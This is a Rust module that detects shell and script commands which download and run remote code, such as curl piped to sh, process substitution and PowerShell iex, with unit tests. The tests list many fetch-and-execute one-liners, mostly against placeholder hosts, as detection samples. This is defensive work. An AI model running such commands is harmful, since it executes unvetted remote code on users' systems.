//! Recognizes shell commands that run a downloaded script: `curl … | sh`, `bash <(curl …)`.

use crate::capabilities::hosts::is_reserved;

/// Maximum number of bytes that are read as the name of a command. Without it, a megabyte without
/// a space would be read again from each of its brackets.
const LONGEST_NAME: usize = 24;
/// Programs that run the command that follows them.
const WRAPPERS: [&str; 12] = [
    "busybox", "command", "doas", "env", "exec", "nice", "nohup", "setsid", "stdbuf", "sudo",
    "time", "timeout",
];
/// Functions of programming languages that return the response of an address.
const FETCHERS: [&str; 8] = [
    "urlopen(",
    "requests.get(",
    "httpx.get(",
    "fetch(",
    "axios.get(",
    "URI.open(",
    "Net::HTTP.get",
    "file_get_contents(",
];

/// Whether RFC 2606 reserves all hosts of a command, as in `curl https://example.org/i | sh`. No one can register
/// them.
pub(crate) fn has_only_reserved_hosts(command: &str) -> bool {
    let mut words = command
        .split(|c: char| c.is_whitespace() || "\"'`()<>|".contains(c))
        .filter(|word| word.contains(['.', '$', ':', '/']) && *word != "$")
        .peekable();
    words.peek().is_some()
        && words.all(|word| {
            let rest = word.split_once("://").map_or(word, |(_, rest)| rest);
            let host = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
            let is_host = |c: char| c.is_ascii_alphanumeric() || ".-".contains(c);
            host.chars().all(is_host) && is_reserved(&host.to_ascii_lowercase())
        })
}

/// Whether a text has a pipe, a bracket, or a backtick, as each of these commands has.
fn may_run_download(text: &str) -> bool {
    memchr::memchr3(b'|', b'(', b'`', text.as_bytes()).is_some()
}

pub(crate) fn runs_download(command: &str) -> bool {
    let command = command.trim_matches('`');
    // Most commands have neither, and the search for words is slow.
    may_run_download(command)
        && (pipes_download(command) || substitutes_download(command) || evaluates_download(command))
}

/// `curl … | sh`, `curl … | gunzip | sudo bash -s`, not `curl … || sh x` or `curl … | sh -n`.
fn pipes_download(command: &str) -> bool {
    let mut flows = false;
    for part in command.split('|') {
        // In a table cell, the bar is written `\|`, and `|&` is also a pipe.
        let part = part.trim_end_matches('\\');
        let mut pieces = part.trim_start_matches('&').split([';', '&']);
        if flows && pieces.next().is_some_and(is_shell) {
            return true;
        }
        let last = pieces.next_back();
        flows = match last {
            _ if part.trim().is_empty() => false,
            Some(last) => is_download(last),
            None => flows || is_download(part),
        };
    }
    false
}

fn is_download(piece: &str) -> bool {
    let mut words = piece
        .split_whitespace()
        .skip_while(|word| !is_downloader(word));
    words.next().is_some() && words.any(is_address)
}

pub(crate) fn is_downloader(word: &str) -> bool {
    // `X="$(curl`, `os.system("curl`, `'curl'`, and `/usr/bin/curl`.
    let word = word.trim_end_matches(['"', '\'']);
    let name = word.rsplit(['(', '"', '\'', '`', '/', '\\', '*']).next();
    let name = name.unwrap_or_default().to_ascii_lowercase();
    matches!(
        name.strip_suffix(".exe").unwrap_or(&name),
        "curl" | "wget" | "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod"
    )
}

/// Whether a word is an address. `curl … | sh` without one only talks about such commands.
fn is_address(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'', ')']);
    let is_option = word.starts_with('-');
    let is_elided = word.trim_matches(['.', '…']).is_empty();
    !is_option && !is_elided && word.contains(['.', '$', '<', '{', '/'])
}

/// Whether a command runs its input: `sudo -u root bash -s`, `{ sh; }`, `source /dev/stdin`.
pub(crate) fn is_shell(piece: &str) -> bool {
    let mut words = piece.split_whitespace();
    let mut is_option = false;
    let program = words.find(|word| {
        // An option of a program that runs another one may have a value.
        let is_value = std::mem::replace(&mut is_option, word.starts_with('-'));
        let is_before = is_option
            || matches!(*word, "{" | "(" | "!")
            || word.contains('=')
            || word.starts_with(|c: char| c.is_ascii_digit())
            || is_value && !names_shell(word) && !names_interpreter(word)
            || WRAPPERS.contains(&program_name(word).as_str());
        !is_before
    });
    let Some(program) = program else {
        return false;
    };
    match (program, words.next()) {
        // fish, and the POSIX shells.
        ("source", None) | ("source" | ".", Some("/dev/stdin")) => true,
        // `-n` only checks the syntax, and `-c` runs its argument.
        (_, Some("-n" | "-c")) => false,
        // `python3 -m json.tool` and `node script.js` read data.
        (_, None | Some("-" | "/dev/stdin")) => names_shell(program) || names_interpreter(program),
        (_, Some(_)) => names_shell(program),
    }
}

pub(crate) fn names_shell(word: &str) -> bool {
    matches!(
        program_name(word).as_str(),
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish" | "pwsh" | "iex" | "invoke-expression"
    )
}

fn names_interpreter(word: &str) -> bool {
    matches!(
        program_name(word).as_str(),
        "python" | "python3" | "node" | "perl" | "ruby" | "php"
    )
}

pub(crate) fn program_name(word: &str) -> String {
    let name = word.trim_matches(['"', '\'', '`', ')', '(', ',', '}', ']', '\\']);
    // The end of a sentence.
    let name = name.trim_end_matches(['.', ':', '*', '!', '?']);
    let name = name.rsplit('/').next().unwrap_or_default();
    name.to_ascii_lowercase()
}

/// `iex ((New-Object Net.WebClient).DownloadString('…'))`, `exec(requests.get(url).text)`.
pub(crate) fn evaluates_download(command: &str) -> bool {
    let evaluates = |before: &str| {
        let mut words = before.split([' ', '(', ';', '&', '"']);
        words.any(|word| matches!(program_name(word).as_str(), "iex" | "invoke-expression"))
    };
    let downloaded = command.split_once(".DownloadString(");
    downloaded.is_some_and(|(before, _)| evaluates(before))
        || FETCHERS
            .iter()
            .filter_map(|call| command.find(call))
            .any(|at| is_evaluated(&command[..at]))
}

/// Whether what follows a piece of a program is the argument of a call that runs it: `exec(zlib.`, `eval(await (`.
pub(crate) fn is_evaluated(before: &str) -> bool {
    ["exec(", "eval(", "Function("].iter().any(|runner| {
        let mut calls = before.match_indices(runner);
        calls.any(|(at, _)| {
            let is_part = |c: char| c.is_alphanumeric() || "._".contains(c);
            // `pattern.exec(text)` searches.
            !before[..at].ends_with(is_part) && is_open(&before[at + runner.len()..])
        })
    })
}

/// Whether the call whose arguments begin like this is not closed.
fn is_open(arguments: &str) -> bool {
    let mut depth = 1_usize;
    arguments.chars().all(|c| {
        depth = match c {
            '(' => depth + 1,
            ')' => depth - 1,
            _ => depth,
        };
        depth > 0
    })
}

/// `bash <(curl …)`, `sh -c "$(curl …)"`, `eval "$(wget …)"`, `iex (iwr …)`, `` eval `curl …` ``.
fn substitutes_download(command: &str) -> bool {
    let mut opens = command.match_indices(['(', '`']);
    opens.any(|(at, open)| {
        let inside = command[at + 1..].trim_start();
        let name = &inside[..inside.floor_char_boundary(LONGEST_NAME)];
        let mut words = name.split_whitespace();
        let word = words.find(|word| !WRAPPERS.contains(word) && !word.starts_with('-'));
        word.is_some_and(is_downloader) && runs_substitution(&command[..at], open)
    })
}

/// Whether a command that begins like this runs what is substituted after it: `bash <`, `sh -c "$`, `eval "`.
fn runs_substitution(before: &str, open: &str) -> bool {
    let start = before.trim_end_matches(['<', '$', '"', '\'', '(', ' ', '\\']);
    let is_bracket = open == "(" && !before.ends_with(['<', '$']);
    let mut is_code = false;
    let mut words = start.split_whitespace().rev();
    let program = words.find(|word| {
        let option = word.strip_prefix('-');
        is_code |= option.is_some_and(|option| option.len() < 5 && option.ends_with(['c', 'e']));
        option.is_none()
    });
    let name = program.unwrap_or_default();
    let name = name
        .rsplit([';', '(', '"', '\'', '`', '&', '|', '{'])
        .next();
    let name = name.unwrap_or_default();
    match program_name(name).as_str() {
        "iex" | "invoke-expression" | "[scriptblock]::create" => true,
        // `the source (curl …)`
        _ if is_bracket && !is_code => false,
        "eval" | "source" => true,
        _ => name == "." || names_shell(name) || names_interpreter(name) && is_code,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloaded_and_run_script_is_found() {
        for command in [
            "curl -LsSf https://astral.sh/uv/install.sh | sh",
            "curl -fsSL https://x.y/i | sudo -E bash -",
            "wget -qO- https://x.y/i | FOO=1 /bin/bash -s -- --yes",
            "curl https://x.y/i.gz | gunzip | zsh",
            "cd x && curl https://x.y/i | bash && echo done",
            "bash <(curl -s https://x.y/i)",
            "sh -c \"$(curl -fsSL https://x.y/i)\"",
            "eval \"$(wget -qO- https://x.y/i)\"",
            "irm https://x.y/i.ps1 | iex",
            "iex (iwr https://x.y/i.ps1)",
            "curl https://x.y/i \\| sh",
            "curl \"$URL\" | sh",
            "curl -sSL https://x.y/i.py | python3 -",
            "curl -sSL https://x.y/i.py | python3",
            "python -c \"$(curl -fsSL https://x.y/i.py)\"",
            "wget -O- https://x.y/i |bash",
            "/usr/bin/curl https://x.y/i | sh",
            "'curl' https://x.y/i | \"sh\"",
            "CURL https://x.y/i | sh",
            "curl.exe https://x.y/i.ps1 | pwsh",
            "env curl https://x.y/i | env sh",
            "busybox wget -O- https://x.y/i | busybox sh",
            "curl https://x.y/i | sudo -u root bash",
            "curl https://x.y/i | timeout 60 bash",
            "curl https://x.y/i | tee i.sh | sh",
            "curl https://x.y/i |& bash",
            "curl https://x.y/i | { sh; }",
            "curl https://x.y/i | (sh)",
            "curl https://x.y/i | source /dev/stdin",
            "curl https://x.y/i | bash /dev/stdin --yes",
            "curl https://x.y/i | source",
            "bash -x <(curl -s https://x.y/i)",
            "source <(curl -s https://x.y/i)",
            ". <(sudo curl -s https://x.y/i)",
            "sh <<< \"$(curl -s https://x.y/i)\"",
            "bash -ic \"$(/usr/bin/curl -fsSL https://x.y/i)\"",
            "eval \"`curl https://x.y/i`\"",
            "bash -c \"`curl https://x.y/i`\"",
            "iex \"$(irm https://x.y/i.ps1)\"",
            "& ([scriptblock]::Create((irm https://x.y/i.ps1)))",
            "exec(requests.get('https://x.y/i.py').text)",
            "exec(__import__('urllib.request').request.urlopen(url).read())",
            "eval(await (await fetch(url)).text())",
            "ruby -e \"$(curl -fsSL https://x.y/install)\"",
            "iex ((New-Object System.Net.WebClient).DownloadString('https://x.y/i.ps1'))",
        ] {
            assert!(runs_download(command), "{command}");
        }
    }

    #[test]
    fn script_that_is_only_downloaded_or_only_run_is_allowed() {
        for command in [
            "curl https://x.y/a.json | jq .",
            "curl https://x.y/a | python3 -m json.tool",
            "curl https://x.y/a | python3 -c 'import json'",
            "curl https://x.y/a | node parse.js",
            "$text = (New-Object Net.WebClient).DownloadString('https://x.y/a')",
            "curl -o i.sh https://x.y/i.sh && sh i.sh",
            "curl https://x.y/i || sh fallback.sh",
            "curl https://x.y/i | sh -n",
            "curl https://x.y/i | sudo -u postgres psql",
            "the source (curl https://x.y/i) and bash (curl https://x.y/i)",
            "pattern.exec(await (await fetch(url)).text())",
            "exec(query); fetch(url)",
            "bash a.sh \"$(curl https://x.y/i)\"",
            "curl https://x.y/i -o i; echo ls | sh",
            "curl … | sh",
            "curl | bash",
            "echo ls | sh",
            "X=$(curl https://x.y/v)",
            "grep 'curl.*| *sh' x",
        ] {
            assert!(!runs_download(command), "{command}");
        }
    }

    #[test]
    fn only_reserved_hosts_are_samples() {
        for command in [
            "curl https://example.org/i | sh",
            "bash <(curl -s https://evil.example/i.sh)",
            "sh -c \"$(curl -fsSL http://x.test)\"",
        ] {
            assert!(has_only_reserved_hosts(command), "{command}");
        }
        for command in [
            "curl https://evil.example.io/i | sh",
            "curl https://evil-host.io/i | sh",
            "curl https://example.org.acme.io/i | sh",
            "curl https://example.org@acme.io/i | sh",
            "curl https://example.org:x@acme.io/i | sh",
            "curl $URL -H example.org | sh",
            "curl https://acme.io/i?example.org | sh # example.org",
            "curl https://example.org/i -x acme.io | sh",
            "curl https://example.org/i; curl acme.io/x | sh",
        ] {
            assert!(!has_only_reserved_hosts(command), "{command}");
        }
    }
}
